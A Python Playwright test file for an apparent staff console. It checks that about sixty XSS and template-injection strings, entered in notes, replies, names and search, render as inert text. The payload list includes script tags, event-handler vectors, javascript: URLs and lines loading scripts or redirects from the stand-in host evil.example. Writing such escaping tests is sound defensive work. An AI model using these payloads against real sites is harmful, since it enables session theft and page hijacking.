"""Hostile texts in every place where somebody can write: shown as they are, and nothing happens."""

from __future__ import annotations

from playwright.async_api import Browser

from tests.staff_console.house import House
from tests.staff_console.test_browser import desk_at

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</bdi></p></li></ol><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    '<IMG SRC="javascript:alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>press</a>",
    '<a href="java\tscript:alert(1)">press</a>',
    "<form action=javascript:alert(1)><button>press</button></form>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x.png)">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`;alert(1)//",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{{''.__class__.__mro__}}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} {visit} %(x)s %s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "<x id=content><x name=cookie>",
)


async def test_hostile_texts_stay_texts(browser: Browser, house: House) -> None:
    """faults: 59, 60, 62"""
    assert len(set(PAYLOADS)) >= 40
    hostile_name = "<img src=x onerror=alert(1)>"
    await house.employ("Sato", "admin")
    await house.staff.add_staff(hostile_name, "worker", None)
    person = house.resident("web")
    reference = await person.answer(
        via=PAYLOADS[0],
        place="alone",
        right_now=["no_food"],
        stop="more",
        for_whom="me",
        own_words=PAYLOADS[0],
        contact="phone",
        contact__number=PAYLOADS[9],
    )
    for number, payload in enumerate(PAYLOADS):
        await person.say(payload)
        await house.state.acts.note(reference, payload, hostile_name, f"note {number}")
    await house.state.acts.reply(reference, PAYLOADS[9], hostile_name, "reply")
    for revision, payload in enumerate(PAYLOADS):
        await house.state.acts.assess(reference, hostile_name, payload, (), "", revision)
        await house.state.acts.share(reference, hostile_name, payload, house.now.date())
    async with desk_at(browser, house, "Sato") as desk:
        page = desk.page
        for path in (f"/leads/{reference}", "/", "/team", f"/?q={PAYLOADS[9]}", f"/leads/{reference}/erase"):
            await desk.go(path)
            assert page.url.startswith(desk.base), path
            foreign = "iframe, object, embed, form[action^='javascript'], base, meta[http-equiv], script:not([src])"
            assert await page.locator(foreign).count() == 0, path
            assert await page.locator("main :is(img, script, style, link, video, audio)").count() == 0, path
            attributes = await page.evaluate("[...document.all].flatMap(element => element.getAttributeNames())")
            assert len(attributes) > 50
            assert [name for name in attributes if name.startswith("on")] == [], path
        await desk.go(f"/leads/{reference}")
        shown = await page.locator(".from-note .bubble").all_inner_texts()
        assert len(shown) == len(PAYLOADS)
        for text, payload in zip(shown, PAYLOADS, strict=True):
            assert text == payload.replace("\u202e", "RLO")
        said = " ".join(await page.locator(".from-resident .bubble").all_inner_texts())
        assert sum(payload in said for payload in PAYLOADS) > 40


async def test_texts_given_back_after_a_failed_try_are_inert(browser: Browser, house: House) -> None:
    """faults: 59"""
    await house.employ("Sato")
    reference = await house.resident("web").answer(place="alone", right_now=["no_food"])
    card = house.state.store.card(reference)
    assert card is not None
    async with desk_at(browser, house, "Sato") as desk:
        await desk.go(f"/leads/{reference}")
        everything = "\n".join(PAYLOADS)
        await desk.page.get_by_role("textbox", name="Reply in the chat").fill(everything)
        await house.state.acts.close(reference, "plan", "Mori", card.version)
        await desk.page.get_by_role("button", name="Send the reply").click()
        kept = desk.page.get_by_label("What you wrote")
        assert await kept.input_value() == everything
        assert await desk.page.locator("main :is(img, script, iframe)").count() == 0
